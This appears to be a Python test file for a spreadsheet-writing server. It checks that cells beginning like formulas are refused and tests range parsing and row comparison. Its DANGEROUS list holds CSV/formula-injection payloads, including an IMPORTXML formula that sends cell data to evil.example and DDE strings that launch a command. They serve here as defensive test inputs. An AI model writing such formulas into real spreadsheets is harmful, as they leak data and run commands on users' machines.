"""Which rows may be written and where they stand: the pure part."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_servers.common.rows import ValueInput, _index, _letters, by_key, check_rows, occurrences, parse_range, same
from mcp_servers.common.service_requests import NotDone
from tests.requirements import requirement

DANGEROUS = [
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    " =1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+HYPERLINK(A1)",
    "\t=A1",
]


@requirement("O1")
@pytest.mark.parametrize("cell", DANGEROUS)
@pytest.mark.parametrize("value_input", ["RAW", "USER_ENTERED"])
def test_a_formula_is_refused_by_row_and_column(cell: str, value_input: ValueInput) -> None:
    with pytest.raises(NotDone, match="row 2, column 3 begins like a formula"):
        check_rows([["a", "b", "c"], ["a", "b", cell]], value_input)


@pytest.mark.parametrize(
    "cell", ["-5", "+81-90-1234-5678", "-1,234.5", "-3%", "2026-11-21", "東京", "a=b", 5, -5.5, 0, False, True]
)
@pytest.mark.parametrize("value_input", ["RAW", "USER_ENTERED"])
def test_ordinary_cells_pass(cell: str | float | bool, value_input: ValueInput) -> None:
    check_rows([[cell]], value_input)


@pytest.mark.parametrize("cell", ["- 会議(10時から)", "@tanaka", "-完了"])
def test_everyday_signs_pass_where_a_sheet_runs_nothing_and_not_where_it_would(cell: str) -> None:
    check_rows([[cell]], "RAW")
    with pytest.raises(NotDone):
        check_rows([[cell]], "USER_ENTERED")


@given(st.text(max_size=20))
def test_no_text_with_an_equals_sign_in_front_ever_passes(text: str) -> None:
    with pytest.raises(NotDone):
        check_rows([["=" + text]], "RAW")


@pytest.mark.parametrize("row", [[], [None], ["", None]])
def test_a_row_with_nothing_in_it_is_refused(row: list[None]) -> None:
    with pytest.raises(NotDone, match="row 2 is empty"):
        check_rows([["a"], row], "RAW")


def test_too_much_at_once_is_refused() -> None:
    with pytest.raises(NotDone, match="several calls"):
        check_rows([["x" * 2_000_001]], "RAW")


@pytest.mark.parametrize(
    ("text", "sheet", "column"),
    [
        ("Sheet1!A1", "Sheet1", 0),
        ("シート1!B2:D", "シート1", 1),
        ("'My Sheet'!AA3", "My Sheet", 26),
        ("'It''s'!$C$1", "It's", 2),
        ("勤怠", "勤怠", 0),
        ("'Done!'", "Done!", 0),
        ("'Done!'!B2", "Done!", 1),
        ("Sheet1!2:2", "Sheet1", 0),
    ],
)
def test_a_range_is_taken_apart(text: str, sheet: str, column: int) -> None:
    target = parse_range(text)
    assert (target.sheet, target.first_column) == (sheet, column)
    assert parse_range(target.block(1, 1, 1)).sheet == sheet
    assert parse_range(target.whole).sheet == sheet


@pytest.mark.parametrize("text", ["A1", "A1:C3", "$B$2", "", "A:C"])
def test_a_range_without_a_sheet_is_refused_with_an_example(text: str) -> None:
    with pytest.raises(NotDone, match="シート1!A1"):
        parse_range(text)


@given(st.integers(min_value=0, max_value=18_277))
def test_column_letters_count_both_ways(column: int) -> None:
    assert _index(_letters(column)) == column


@pytest.mark.parametrize(("ours", "theirs"), [(["a", None, ""], ["a"]), ([1.0], [1]), ([None, "b"], ["", "b"]), ([], [])])
def test_rows_are_compared_as_a_sheet_keeps_them(ours: list[str], theirs: list[str]) -> None:
    assert same(ours, theirs)
    assert not same([*ours, "x"], theirs)


def test_a_block_is_found_wherever_it_stands() -> None:
    table = [["h"], ["", "a", 1], ["", "b", 2], ["x"], ["", "a", 1], ["", "b", 2]]
    assert occurrences(table, [["a", 1], ["b", 2]], 1) == [2, 5]
    assert by_key(table, 1, 1) == {"a": ["a", 1], "b": ["b", 2]}
